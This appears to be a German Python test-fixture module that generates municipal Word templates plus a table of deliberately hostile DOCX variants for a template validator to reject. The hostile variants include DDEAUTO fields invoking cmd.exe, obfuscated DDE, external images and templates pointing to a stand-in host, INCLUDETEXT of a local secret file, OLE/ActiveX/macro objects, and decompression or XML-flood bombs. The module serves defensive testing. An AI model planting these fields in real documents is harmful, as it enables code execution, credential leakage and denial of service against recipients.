"""Hausvorlagen: verschieden gebaute Word-Vorlagen, wie Kommunen sie haben – jede aus wenigen Zeilen erzeugt."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from typing import Any, Final

import docx
from boesartig import beziehung, zip_aus
from docx.enum.section import WD_ORIENT
from docx.oxml import parse_xml
from docx.shared import Cm, Pt, RGBColor
from PIL import Image, ImageDraw
from word_pruefer import teile

from mut_core.bericht.word.vorlage import build_vorlage

W_NS: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_NS: Final = f'xmlns:w="{W_NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

DEUTSCHE_KENNUNGEN: Final = {
    "Normal": "Standard", "DefaultParagraphFont": "Absatz-Standardschriftart", "BodyText": "Textkrper",
    "Quote": "Zitat", "ListBullet": "Aufzhlungszeichen", "ListNumber": "Listennummer", "Heading1": "berschrift1",
    "Heading2": "berschrift2", "Heading3": "berschrift3", "Heading4": "berschrift4",
    "TOCHeading": "Inhaltsverzeichnisberschrift", "TOC1": "Verzeichnis1", "TOC2": "Verzeichnis2",
    "TOC3": "Verzeichnis3", "TableofFigures": "Abbildungsverzeichnis", "Caption": "Beschriftung",
    "TableNormal": "NormaleTabelle", "Header": "Kopfzeile", "Footer": "Fuzeile", "Title": "Titel",
    "Subtitle": "Untertitel", "NoList": "KeineListe",
}  # fmt: skip
"""So heißen die Kennungen in deutschen Word-Fassungen; die Namen bleiben englisch."""


_KENNUNG: Final = re.compile(r'(w:(?:styleId|basedOn w:val|next w:val|link w:val|pStyle w:val)=)"(\w+)"')


def sdt(tag: str, text: str = "", *, block: bool = False, eigenschaften: str = "", alias: str = "") -> str:
    """Ein Inhaltssteuerelement; ohne Tag nur mit angezeigtem Namen."""
    lauf = f"<w:r><w:t>{text or tag}</w:t></w:r>"
    name = f'<w:alias w:val="{alias}"/>' if alias else ""
    kennung = f'<w:tag w:val="{tag}"/>' if tag else ""
    return (
        f"<w:sdt><w:sdtPr>{name}{kennung}{eigenschaften}</w:sdtPr><w:sdtContent>"
        + (f"<w:p>{lauf}</w:p>" if block else lauf)
        + "</w:sdtContent></w:sdt>"
    )


def feldlauf(befehl: str, ergebnis: str = "x") -> str:
    """Ein Feld mit Anfang, Befehl und Ende."""
    z = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f'{z.format("begin")}<w:r><w:instrText xml:space="preserve"> {befehl} </w:instrText></w:r>'
        f"{z.format('separate')}<w:r><w:t>{ergebnis}</w:t></w:r>{z.format('end')}"
    )


def xml(roh: str) -> Any:
    """Ein Knoten aus XML ohne Namensraumangaben."""
    return parse_xml(re.sub(r"^<([\w:]+)", rf"<\1 {_NS}", roh, count=1))


def absatz(inhalt: str, ppr: str = "") -> Any:
    """Ein Absatz aus XML."""
    return xml(f"<w:p><w:pPr>{ppr}</w:pPr>{inhalt}</w:p>")


def logo(farbe: str = "darkgreen", breite: int = 240) -> bytes:
    """Ein kleines Wappen als PNG, mit Metadaten, die nicht mitkommen dürfen."""
    bild = Image.new("RGBA", (breite, 120), (0, 0, 0, 0))
    ImageDraw.Draw(bild).ellipse((10, 10, breite - 10, 110), fill=farbe)
    puffer = io.BytesIO()
    bild.save(puffer, "PNG", pnginfo=_metadaten())
    return puffer.getvalue()


def _metadaten() -> Any:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Erika Beispiel")
    return info


def _bytes(dokument: Any) -> bytes:
    puffer = io.BytesIO()
    dokument.save(puffer)
    return puffer.getvalue()


def neutrale() -> bytes:
    """Die eigene neutrale Vorlage."""
    return build_vorlage()


def vorgabe() -> bytes:
    """Ein leeres Dokument, wie python-docx es anlegt: amerikanisches Papier, Kompatibilitätsmodus, englisch."""
    return _bytes(docx.Document())


def deutsche() -> bytes:
    """Deutsche Kennungen, nummerierte Überschriften, ohne die eigenen Formatvorlagen des Berichts, als .dotx."""
    inhalt = {n: b.decode() for n, b in teile(build_vorlage()).items()}
    for name, text in inhalt.items():
        inhalt[name] = _KENNUNG.sub(lambda t: f'{t[1]}"{DEUTSCHE_KENNUNGEN.get(t[2], t[2])}"', text)
    for name in ("Tabellentext", "Tabellenkopf", "Abbildung", "Bericht Tabelle", "Deckblatthinweis"):
        inhalt["word/styles.xml"] = re.sub(
            rf'<w:style (?:(?!</w:style>).)*<w:name w:val="{name}"/>.*?</w:style>', "", inhalt["word/styles.xml"]
        )
    inhalt["word/styles.xml"] = inhalt["word/styles.xml"].replace("1F4E79", "7A1F3D").replace('"Arial"', '"Carlito"')
    inhalt["word/document.xml"] = re.sub(
        r'<w:p><w:pPr><w:pStyle w:val="Deckblatthinweis"/>.*?</w:p>', "", inhalt["word/document.xml"]
    )
    typ = "wordprocessingml.document.main+xml"
    inhalt["[Content_Types].xml"] = inhalt["[Content_Types].xml"].replace(
        typ, typ.replace("document.main", "template.main")
    )
    return zip_aus(inhalt)


def mit_deckblatt() -> bytes:
    """Briefkopf mit Logo nur auf der ersten Seite, Deckblatt als Tabelle in eigenem Abschnitt, Beispieltext danach."""
    dokument = docx.Document()
    dokument.core_properties.author = "Erika Beispiel"
    dokument.styles["Normal"].font.name = "Liberation Serif"
    dokument.styles["Heading 1"].font.color.rgb = RGBColor(0x00, 0x5A, 0x2B)
    abschnitt = dokument.sections[0]
    abschnitt.page_width, abschnitt.page_height = Cm(21), Cm(29.7)
    abschnitt.left_margin, abschnitt.right_margin = Cm(3), Cm(2)
    kopf = abschnitt.header.paragraphs[0]
    kopf.add_run().add_picture(io.BytesIO(logo()), height=Cm(1))
    kopf._p.append(xml("<w:r><w:tab/></w:r>"))
    kopf._p.append(xml(sdt("", "Titel eingeben", alias="Kopfzeile")))
    fuss = abschnitt.footer.paragraphs[0]
    for teil in (sdt("aktenzeichen", "Az."), "<w:r><w:tab/><w:tab/></w:r>", feldlauf("PAGE \\* MERGEFORMAT", "7")):
        for element in list(xml(f"<w:x>{teil}</w:x>")):
            fuss._p.append(element)
    dokument.add_picture(io.BytesIO(logo("navy", 400)), width=Cm(6))
    tabelle = dokument.add_table(4, 2)
    for nummer, (name, tag) in enumerate((("Thema", "titel"), ("Konzept", "untertitel"), ("Az.", "aktenzeichen"))):
        tabelle.cell(nummer, 0).text = name
        zelle = tabelle.cell(nummer, 1)
        platzhalter = '<w:showingPlcHdr/><w:rPr><w:b/><w:sz w:val="32"/></w:rPr>' if tag == "titel" else ""
        zelle.paragraphs[0]._p.append(xml(sdt(tag, "Klicken Sie hier", eigenschaften=platzhalter)))
    tabelle.cell(3, 0).text = "Stand"
    zelle4 = tabelle.cell(3, 1)._tc
    zelle4.replace(zelle4.p_lst[0], xml(sdt("stand", "Datum", block=True)))
    zelle4.append(absatz(""))
    dokument.add_paragraph()._p.append(xml(sdt("kommune")))
    dokument.add_section()
    dokument.element.body.insert(len(dokument.element.body) - 1, xml(sdt("inhalt", "Bericht", block=True)))
    dokument.add_paragraph("Rückseite")
    return _bytes(dokument)


def querformat() -> bytes:
    """DIN A4 quer mit schmalen Rändern, großen Schriften und römisch nummerierten Überschriften."""
    dokument = docx.Document()
    abschnitt = dokument.sections[0]
    abschnitt.orientation = WD_ORIENT.LANDSCAPE
    abschnitt.page_width, abschnitt.page_height = Cm(29.7), Cm(21)
    abschnitt.left_margin = abschnitt.right_margin = Cm(1.5)
    dokument.styles["Normal"].font.size = Pt(12)
    dokument.element.body.insert(0, absatz(sdt("titel", alias="Titel"), '<w:pStyle w:val="Title"/>'))
    return _bytes(dokument)


def briefbogen() -> bytes:
    """Ohne jedes Steuerelement: Logo im Kopf, Anschrift im Rumpf, schmaler Text, Datum und Dateiname als Feld."""
    dokument = docx.Document()
    abschnitt = dokument.sections[0]
    abschnitt.page_width, abschnitt.page_height = Cm(21), Cm(29.7)
    abschnitt.left_margin, abschnitt.right_margin = Cm(2.5), Cm(5.5)
    abschnitt.different_first_page_header_footer = True
    erste = abschnitt.first_page_header.paragraphs[0]
    erste.add_run("Stadt Beispielhausen – Der Bürgermeister")
    abschnitt.header.paragraphs[0].add_run().add_picture(io.BytesIO(logo("maroon")), height=Cm(1))
    fuss = abschnitt.footer.paragraphs[0]._p
    for teil in (
        feldlauf('DATE \\@ "dd.MM.yyyy"', "01.01.2020"),
        feldlauf("FILENAME \\p", "C:\\Users\\beispiel\\x.docx"),
    ):
        for element in list(xml(f"<w:x>{teil}</w:x>")):
            fuss.append(element)
    dokument.add_paragraph("Sehr geehrte Damen und Herren,")
    dokument.add_paragraph("dies ist ein Mustertext.")
    return _bytes(dokument)


BRAUCHBARE: Final[Mapping[str, Callable[[], bytes]]] = {
    "neutrale": neutrale,
    "vorgabe": vorgabe,
    "deutsche": deutsche,
    "deckblatt": mit_deckblatt,
    "querformat": querformat,
    "briefbogen": briefbogen,
}
"""Sechs verschieden gebaute Vorlagen, mit denen gedruckt werden kann."""


# --- Feindliches -----------------------------------------------------------------------------------------------------


def _geaendert(aendere: Callable[[dict[str, bytes]], None]) -> bytes:
    inhalt = dict(teile(build_vorlage()))
    aendere(inhalt)
    return zip_aus(inhalt)


def im_rumpf(roh: str) -> bytes:
    """Die neutrale Vorlage mit diesem XML am Anfang des Rumpfs."""

    def aendere(inhalt: dict[str, bytes]) -> None:
        inhalt["word/document.xml"] = inhalt["word/document.xml"].replace(b"<w:body>", b"<w:body>" + roh.encode(), 1)

    return _geaendert(aendere)


def im_kopf(roh: str) -> bytes:
    """Die neutrale Vorlage mit diesem XML am Ende der Kopfzeile."""

    def aendere(inhalt: dict[str, bytes]) -> None:
        inhalt["word/header1.xml"] = inhalt["word/header1.xml"].replace(b"</w:hdr>", roh.encode() + b"</w:hdr>")

    return _geaendert(aendere)


def mit_beziehung(
    typ: str, ziel: str, modus: str = ' TargetMode="External"', mehr: Mapping[str, str] | None = None
) -> bytes:
    """Die neutrale Vorlage mit einer weiteren Beziehung des Dokuments."""

    def aendere(inhalt: dict[str, bytes]) -> None:
        ort = "word/_rels/document.xml.rels"
        inhalt[ort] = inhalt[ort].replace(
            b"</Relationships>", beziehung(typ, ziel, modus).encode() + b"</Relationships>"
        )
        inhalt.update({name: text.encode() for name, text in (mehr or {}).items()})

    return _geaendert(aendere)


def _ersetzt(name: str, alt: str, neu: str) -> bytes:
    return _geaendert(lambda inhalt: inhalt.update({name: inhalt[name].replace(alt.encode(), neu.encode(), 1)}))


def _fp(befehl: str) -> str:
    return f"<w:p>{feldlauf(befehl)}</w:p>"


def _gestueckelt() -> str:
    """DDEAUTO, auf drei Läufe verteilt."""
    z = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    stuecke = "".join(f"<w:r><w:instrText>{s}</w:instrText></w:r>" for s in (" D", "DE", "AU", 'TO c:\\x "a" '))
    return f"<w:p>{z.format('begin')}{stuecke}{z.format('separate')}{z.format('end')}</w:p>"


_BOESE_ADRESSE: Final = "https://boese.example/b"


def _pict(attribut: str) -> bytes:
    """Ein altes Bild in der Kopfzeile, das ohne Beziehung nach außen zeigt."""
    ns = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return im_kopf(f"<w:p><w:r><w:pict {ns}><v:shape><v:imagedata {attribut}/></v:shape></w:pict></w:r></w:p>")


def _ole() -> bytes:
    ns = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    return im_rumpf(f'<w:p><w:r><w:object><o:OLEObject {ns} ProgID="Package"/></w:object></w:r></w:p>')


def _geloescht() -> bytes:
    lauf = feldlauf("DDEAUTO cmd x").replace("instrText", "delInstrText")
    return im_rumpf(f'<w:p><w:del w:id="1" w:author="x">{lauf}</w:del></w:p>')


def _im_feld() -> bytes:
    innen = f"PAGE </w:instrText></w:r>{feldlauf('DDEAUTO cmd x')}<w:r><w:instrText>"
    return im_rumpf(_fp("PAGE").replace(" PAGE ", innen))


def _streng() -> bytes:
    neu = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    return _geaendert(lambda i: i.update({n: b.replace(W_NS.encode(), neu) for n, b in i.items()}))


def riesenteil() -> bytes:
    """Ein Teil von 500 MB, gepackt ein halbes."""
    puffer = io.BytesIO(build_vorlage())
    with (
        zipfile.ZipFile(puffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zip_,
        zip_.open("word/gross.xml", "w", force_zip64=True) as teil,
    ):
        for _ in range(500):
            teil.write(bytes(1024 * 1024))
    return puffer.getvalue()


BOESE: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
    "externes Bild": (lambda: mit_beziehung("image", _BOESE_ADRESSE), "Verknüpfungen"),
    "Bild auf einer Freigabe": (lambda: mit_beziehung("image", "file:////boese/x/b.png"), "Verknüpfungen"),
    "externes VML-Bild": (lambda: _pict(f'src="{_BOESE_ADRESSE}"'), "von woanders"),
    "VML-Ziel auf einer Freigabe": (lambda: _pict(r'o:href="\\boese\b"'), "von woanders"),
    "verbundene Vorlage": (lambda: mit_beziehung("attachedTemplate", _BOESE_ADRESSE), "Dokumentvorlage"),
    "verbundene Vorlage innen": (
        lambda: mit_beziehung("attachedTemplate", "t.xml", "", {"word/t.xml": "<a/>"}),
        "Dokumentvorlage",
    ),
    "altChunk": (lambda: im_rumpf('<w:altChunk r:id="r9"/>'), "altChunk"),
    "altChunk-Beziehung": (lambda: mit_beziehung("aFChunk", "a.html", "", {"word/a.html": "<p>x</p>"}), "altChunk"),
    "Filialdokument": (lambda: im_rumpf('<w:p><w:subDoc r:id="r9"/></w:p>'), "Filialdokument"),
    "OLE im Rumpf": (_ole, "OLE"),
    "OLE im Kopf": (lambda: im_kopf("<w:p><w:r><w:object/></w:r></w:p>"), "OLE"),
    "ActiveX": (lambda: im_rumpf('<w:p><w:r><w:control r:id="r9"/></w:r></w:p>'), "ActiveX"),
    "DDE": (lambda: im_rumpf(_fp(r'DDE excel "c:\x"')), "„DDE“"),
    "DDEAUTO": (lambda: im_kopf(_fp(r'DDEAUTO c:\windows\cmd.exe "/k calc"')), "„DDEAUTO“"),
    "DDEAUTO gestückelt": (lambda: im_rumpf(_gestueckelt()), "„DDEAUTO“"),
    "DDEAUTO einfach": (lambda: im_rumpf('<w:p><w:fldSimple w:instr="ddeauto cmd x"/></w:p>'), "„DDEAUTO“"),
    "DDEAUTO gelöscht": (_geloescht, "„DDEAUTO“"),
    "DDEAUTO im Feld": (_im_feld, "„DDEAUTO“"),
    "DDEAUTO ohne Ende": (lambda: im_rumpf(_fp("DDEAUTO cmd x").replace('"end"', '"separate"')), "„DDEAUTO“"),
    "INCLUDEPICTURE": (lambda: im_kopf(_fp(f'INCLUDEPICTURE "{_BOESE_ADRESSE}" \\d')), "INCLUDEPICTURE"),
    "INCLUDETEXT": (lambda: im_rumpf(_fp(r'INCLUDETEXT "c:\geheim.docx"')), "INCLUDETEXT"),
    "LINK": (lambda: im_rumpf(_fp(r"LINK Excel.Sheet.8 c:\x.xls")), "„LINK“"),
    "MACROBUTTON": (lambda: im_rumpf(_fp("MACROBUTTON AutoOpen Klick")), "MACROBUTTON"),
    "tiefes XML": (lambda: im_rumpf("<w:smartTag>" * 5000 + "</w:smartTag>" * 5000), "beschädigt"),
    "anderer Hauptteil": (lambda: _ersetzt("word/document.xml", "<w:document ", "<w:glossaryDocument "), "beschädigt"),
    "kein Hauptteil": (lambda: _ersetzt("_rels/.rels", "word/document.xml", "word/fehlt.xml"), "beschädigt"),
    "Strict Open XML": (_streng, "Strict Open XML"),
    "winzige Seite": (lambda: _ersetzt("word/document.xml", 'w:w="11906"', 'w:w="3000"'), "zu wenig Platz"),
    "riesige Seite": (lambda: _ersetzt("word/document.xml", 'w:w="11906"', 'w:w="39000"'), "zu wenig Platz"),
    "Knotenflut": (lambda: im_rumpf("".join(f"<w:p{n % 7919}/>" for n in range(450_000))), "viel mehr"),
    "Textflut": (lambda: im_rumpf(f"<w:p><w:r><w:t>{_zahlen(1_800_000)}</w:t></w:r></w:p>"), "viel mehr"),
    "Attributflut": (lambda: im_rumpf(f"<w:p {_attribute(100_000)}/>"), "viel mehr"),
    "500-MB-Teil": (riesenteil, "viel größer"),
}
"""Je Angriff die Datei und ein Stück des Satzes, mit dem sie abgelehnt wird."""


def _zahlen(anzahl: int) -> str:
    return "".join(f"{n:x}" for n in range(anzahl))


def _attribute(anzahl: int) -> str:
    """Attribute in beiden Anführungszeichen, auch mit spitzer Klammer darin."""
    return " ".join(f'a{n}=">"' if n % 2 else f"a{n}='>'" for n in range(anzahl))
